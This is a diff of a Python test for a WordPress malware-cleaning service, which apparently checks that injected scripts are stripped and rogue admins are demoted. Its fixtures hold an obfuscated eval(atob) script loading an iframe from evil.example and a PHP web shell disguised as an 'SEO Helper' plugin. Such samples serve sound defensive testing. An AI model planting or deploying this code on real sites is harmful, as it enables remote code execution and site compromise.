@@ -9,10 +9,9 @@ from pathlib import Path
 import pymysql
 import pytest
 
+from tests.nodes.agents import ClientDesk, drain
 from xuala.customers.models import Site
 from xuala.desk.models import Ticket
-from xuala.nodes.agent import Desk, DeskError, run_agent
-from xuala.nodes.models import Job, JobState
 from xuala.nodes.services import node_token_create, site_attach
 from xuala.wsa import services
 from xuala.wsa.models import Action, Audit, AuditState
@@ -31,30 +30,6 @@ INJECTED = ("<p>Nuestra tienda</p><script>eval(atob('ZG9jdW1lbnQud3JpdGUoJzxpZnJ
             "PWh0dHA6Ly9ldmlsLmV4YW1wbGUvPicp'))</script><p>Bienvenidos</p>")
 BACKDOOR = (b"<?php\n/*\nPlugin Name: SEO Helper\n*/\nif (isset($_POST['k'])) "
             b"{ eval(stripslashes($_POST['k'])); }\n")
-
-
-class ClientDesk(Desk):
-    """The agent's HTTP calls, made through Django's test client (the same views)."""
-
-    def __init__(self, client, token):
-        super().__init__("http://testserver", token)
-        self.client = client
-
-    def post(self, path, body):
-        answer = self.client.post("/api/v1/nodes" + path, body, content_type="application/json",
-                                  HTTP_AUTHORIZATION=f"Bearer {self.token}")
-        if answer.status_code >= 400:
-            raise DeskError(answer.status_code, answer.content.decode())
-        return answer.json()
-
-
-def drain(desk) -> None:
-    """Run the node until no job is due."""
-    for _ in range(50):
-        if not Job.objects.filter(state=JobState.QUEUED).exists():
-            return
-        run_agent(desk, once=True)
-    raise AssertionError("jobs left running")
 
 
 @pytest.fixture
@@ -132,7 +107,7 @@ def test_an_infected_wordpress_is_found_cleaned_and_a_quarantined_file_restored(
         DEBIAN / "wp-includes/functions.php").read_bytes()
     assert post.action == Action.STRIPPED and "-" in post.diff and "eval(atob" in post.diff
     with server_conn.cursor() as cursor:
-        cursor.execute(f"SELECT post_content FROM `{name}`.wp_posts WHERE ID = 2")
+        cursor.execute(f"SELECT post_content FROM `{name}`.wp_posts WHERE ID = 2")  # noqa: S608
         assert cursor.fetchone()[0] == "<p>Nuestra tienda</p><p>Bienvenidos</p>"
     # The rogue administrator waits for a technician's approval, then loses the role.
     assert rogue.action == Action.PROPOSED
@@ -142,7 +117,7 @@ def test_an_infected_wordpress_is_found_cleaned_and_a_quarantined_file_restored(
     assert rogue.action == Action.DEMOTED
     server_conn.commit()
     with server_conn.cursor() as cursor:
-        cursor.execute(f"SELECT meta_value FROM `{name}`.wp_usermeta WHERE user_id = 2")
+        cursor.execute(f"SELECT meta_value FROM `{name}`.wp_usermeta WHERE user_id = 2")  # noqa: S608
         assert "administrator" not in cursor.fetchone()[0]
 
     # One urgent ticket for the site, with the evidence.
